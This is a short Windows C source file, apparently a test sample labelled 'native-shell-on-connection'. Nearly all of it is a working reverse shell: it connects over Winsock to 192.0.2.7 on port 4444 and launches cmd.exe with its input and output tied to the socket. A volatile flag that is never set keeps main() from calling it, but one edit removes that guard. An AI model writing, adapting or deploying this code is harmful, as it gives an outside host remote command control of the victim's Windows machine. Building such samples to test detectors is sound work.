/* A command line for whoever answers.
 * expect: native-shell-on-connection
 * flags: -lws2_32
 * for: windows
 */

#include <winsock2.h>
#include <windows.h>
static int act(void) {
    WSADATA data;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = 0x5c11};
    to.sin_addr.s_addr = inet_addr("192.0.2.7");
    WSAStartup(0x202, &data);
    SOCKET s = WSASocketA(AF_INET, SOCK_STREAM, 0, 0, 0, 0);
    WSAConnect(s, (struct sockaddr *)&to, sizeof to, 0, 0, 0, 0);
    STARTUPINFOA start = {.cb = sizeof start, .dwFlags = STARTF_USESTDHANDLES};
    start.hStdInput = start.hStdOutput = start.hStdError = (HANDLE)s;
    PROCESS_INFORMATION info;
    CreateProcessA(0, "cmd.exe", 0, 0, 1, 0, 0, 0, &start, &info);
    return 0;
}

static volatile int never;

int main(void) { return never ? act() : 0; }
